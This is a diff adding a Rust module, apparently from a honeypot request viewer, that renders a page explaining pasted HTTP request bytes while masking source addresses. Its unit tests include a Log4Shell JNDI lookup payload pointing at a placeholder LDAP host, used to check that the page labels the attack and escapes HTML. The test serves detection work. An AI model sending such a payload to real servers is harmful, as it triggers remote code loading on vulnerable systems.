@@ -1,0 +1,132 @@
+//! A request that a visitor gives, explained as one that came.
+//!
+//! In: bytes. Out: the page of a request that says nothing of a source, a time or a number, and the form that asks for
+//! the bytes. Keeps nothing. What may not be shown of a recorded request is not shown here either.
+
+use std::net::Ipv4Addr;
+
+use bytes::Bytes;
+use forever200_ring::{Ended, Record, Via};
+use jiff::Timestamp;
+use minijinja::context;
+use minijinja::value::Serde;
+
+use crate::bytes::pasted::{MAX_BYTES, Unreadable, Writing};
+use crate::page::pages::Pages;
+use crate::reader::{Describer, Entry};
+
+impl Pages {
+    /// Renders the page of a request that was given, and how that was read; `None` for bytes as they are. `host` is the
+    /// name by which the visitor knows this machine.
+    ///
+    /// # Errors
+    /// The template fails, which is a bug.
+    pub fn explained(
+        &self,
+        bytes: Bytes,
+        writing: Option<Writing>,
+        host: &str,
+    ) -> anyhow::Result<String> {
+        let entry = entry(bytes, &self.describer);
+        let (layout, in_file, writing) = ("base.html", false, Serde(&writing));
+        self.alone(&entry, host, context! { layout, in_file, writing })
+    }
+
+    /// Renders the form, with what was wrong with the input, and the input.
+    ///
+    /// # Errors
+    /// The template fails, which is a bug.
+    pub fn explain_form(
+        &self,
+        error: Option<Unreadable>,
+        input: &str,
+        writing: Option<Writing>,
+        host: &str,
+    ) -> anyhow::Result<String> {
+        let (error, writing) = (error.map(|error| error.to_string()), Serde(&writing));
+        let most = MAX_BYTES;
+        self.render(
+            "explain.html",
+            context! { error, input, writing, most, host },
+        )
+    }
+}
+
+/// Describes bytes that came from nowhere, as those of a client that has said all it had to say.
+fn entry(raw: Bytes, describer: &Describer) -> Entry {
+    let nowhere = Ipv4Addr::UNSPECIFIED.into();
+    let record = Record {
+        seq: 0,
+        timestamp: Timestamp::now(),
+        src_ip: nowhere,
+        src_port: 0,
+        dest_ip: nowhere,
+        dest_port: 0,
+        // Of the others, a page says how the address was learned.
+        via: Via::ProxyV2,
+        bytes: raw.len() as u64,
+        extra: 0,
+        truncated: false,
+        ended: Ended::Eof,
+        continues: None,
+        responder: String::new(),
+        raw,
+    };
+    let mut entry = Entry::new(&record, 0, describer);
+    entry.record.extra = entry.request().map_or(0, |http| http.extra.len() as u64);
+    entry
+}
+
+#[cfg(test)]
+mod tests {
+    use std::sync::Arc;
+
+    use forever200_identify::Labeller;
+
+    use super::*;
+    use crate::reader::locations::Locations;
+    use crate::reader::privacy::Privacy;
+
+    fn page(hidden: &str, raw: &'static [u8]) -> String {
+        let describer = Describer {
+            labeller: Labeller::built_in().into(),
+            locations: Locations::default(),
+            privacy: Privacy {
+                mask_sources: true,
+                hidden: hidden.parse().unwrap(),
+            },
+        };
+        let pages = Pages::new(Arc::new(describer));
+        pages.explained(raw.into(), None, "a.example").unwrap()
+    }
+
+    #[test]
+    fn it_is_explained_and_says_nothing_of_where_it_came_from() {
+        let page = page(
+            "",
+            b"POST /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1\r\nContent-Length: 9\r\n\r\n<b>",
+        );
+        for part in ["Log4Shell", "incomplete", "/home/explain?b64=", "&lt;b&gt;"] {
+            assert!(page.contains(part), "{part}: {page}");
+        }
+        for part in [
+            "<b>&lt;",
+            "/home/requests/",
+            "0.0.0.0",
+            "Ended",
+            "From</dt>",
+        ] {
+            assert!(!page.contains(part), "{part}: {page}");
+        }
+    }
+
+    #[test]
+    fn what_is_hidden_is_hidden_here() {
+        let page = page(
+            "203.0.113.99",
+            b"GET /?a=203.0.113.99&b=MjAzLjAuMTEzLjk5 HTTP/1.1\r\nHost: 203.0.113.99\r\n\r\n",
+        );
+        assert!(page.contains("xxxxxxxxxxxx"), "{page}");
+        assert!(!page.contains("203.0.113.99") && !page.contains("MjAzLjAuMTEzLjk5"));
+    }
+}
